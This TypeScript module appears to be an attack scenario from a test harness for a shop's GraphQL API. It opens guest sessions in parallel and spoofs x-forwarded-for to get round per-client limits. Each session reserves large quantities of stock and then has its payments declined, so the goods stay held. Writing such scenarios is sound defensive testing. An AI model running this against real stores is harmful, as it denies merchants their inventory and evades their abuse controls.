// Guest sessions by the hundred, each of which tries to keep as much of the stock as it can.

import { type Attack, type AttackContext, inLanes } from '../attack.ts';

const document = `mutation ($sku: String!, $quantity: Int!) {
  cartLinesAdd(input: { lines: [{ sku: $sku, quantity: $quantity }] }) { userErrors { code } }
  checkoutStart { checkout { id } userErrors { code } }
}`;
const pay = `mutation ($id: ID!, $key: String!) {
  checkoutComplete(input: { id: $id, paymentToken: "tok_declined", idempotencyKey: $key }) { userErrors { code } }
}`;

/** Beyond this a new address would be another attacker. */
const addresses = 4;

export const attack: Attack = {
  about: 'Begins guest sessions from four addresses, reserves as much stock as each may, and has payments declined.',
  run: (context) => inLanes(16, context, () => shopAsGuest(context)),
};

async function shopAsGuest(context: AttackContext): Promise<void> {
  const { random, tally } = context;
  const address = `203.0.113.${random.between(1, addresses)}`;
  const ask = async (query: string, variables: object, token?: string): Promise<string> => {
    tally.sent++;
    const response = await fetch(`${context.url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-forwarded-for': address,
        ...(token ? { authorization: `Bearer ${token}` } : {}),
      },
      body: JSON.stringify({ query, variables }),
    });
    const text = await response.text();
    const [, code] = /"code":"([A-Z_]+)"/.exec(text) ?? [];
    tally.answered(code ? `${response.status} ${code}` : response.status);
    return text;
  };
  const [, token] =
    /"token":"([^"]+)"/.exec(await ask('mutation { sessionStart(input: { transport: BEARER }) { token } }', {})) ?? [];
  if (!token) return;
  const started = await ask(
    document,
    { sku: `goods-${random.between(0, 9)}`, quantity: random.between(1, 500) },
    token,
  );
  const [, id] = /"id":"([^"]+)"/.exec(started) ?? [];
  if (id) for (let payment = 0; payment < 3; payment++) await ask(pay, { id, key: `key-${payment}` }, token);
}
